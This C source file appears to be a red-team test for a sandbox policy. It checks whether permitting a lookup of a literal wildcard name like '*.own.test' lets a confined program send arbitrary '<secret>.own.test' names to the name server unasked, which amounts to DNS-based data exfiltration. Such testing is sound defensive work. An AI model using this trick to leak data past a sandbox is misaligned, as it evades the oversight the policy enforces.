/* host_wild.c: a lookup of a name holding "*" answered "permit this name" becomes a rule on
 * every name below a domain (issue 11, red team 39; class 7, host names, and the question).
 *
 * An `ask` rule on a host alone asks at the lookup ("resolve NAME"), so that no name leaves
 * for the name server unasked (a name carries what the program puts in it).  The narrowest
 * scope of the answer, `name`, is a `host` rule on the name asked -- and `*.domain` is what
 * a host rule reads as every name below the domain.  A program that looks up the literal
 * name "*.own.test" (a zone with a wildcard record answers it; the question is put before
 * any answer anyway) and is permitted "that name" may then send any name below own.test to
 * the name server unasked: "<secret>.own.test".
 *
 *   host_wild WILD SECRET   asks the first name server of /etc/resolv.conf (UDP, as glibc
 *                           does: the resolver under systrace) for WILD, then for SECRET --
 *                           ESCAPED when SECRET is answered with an address (its name reached
 *                           the server), BLOCKED when it is not
 */
#include "attack.h"
#include "dns_query.h"
#include <poll.h>

/* Asks for name (type A); 1 when the answer has a record, 0 when not, -1 on no answer. */
static int lookup(const struct sockaddr_in *server, const char *name, uint16_t id) {
    unsigned char q[512], r[1500];
    size_t n = question(q, id, 0x0100, 0, name);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0 || connect(s, (const struct sockaddr *)server, sizeof *server) != 0 ||
        send(s, q, n, 0) != (ssize_t)n) {
        printf("note: query for %s not sent: %s\n", name, ename(errno));
        if (s >= 0)
            close(s);
        return -1;
    }
    struct pollfd pfd = {.fd = s, .events = POLLIN};
    ssize_t got = poll(&pfd, 1, 20000) == 1 ? recv(s, r, sizeof r, 0) : -1;
    close(s);
    if (got < 12) {
        printf("note: no answer for %s\n", name);
        return -1;
    }
    int answers = (r[6] << 8) | r[7];
    printf("note: %s: rcode %d, %d answers\n", name, r[3] & 0xf, answers);
    return answers > 0;
}

int main(int argc, char **argv) {
    struct sockaddr_in server;
    if (argc != 3) {
        fprintf(stderr, "usage: host_wild WILD SECRET\n");
        return 2;
    }
    if (nameserver(&server) != 0)
        skipped("no name server in /etc/resolv.conf");
    lookup(&server, argv[1], 0x3901);
    if (lookup(&server, argv[2], 0x3902) == 1)
        escaped("%s was answered: the name reached the name server unasked", argv[2]);
    blocked("%s was not answered", argv[2]);
}
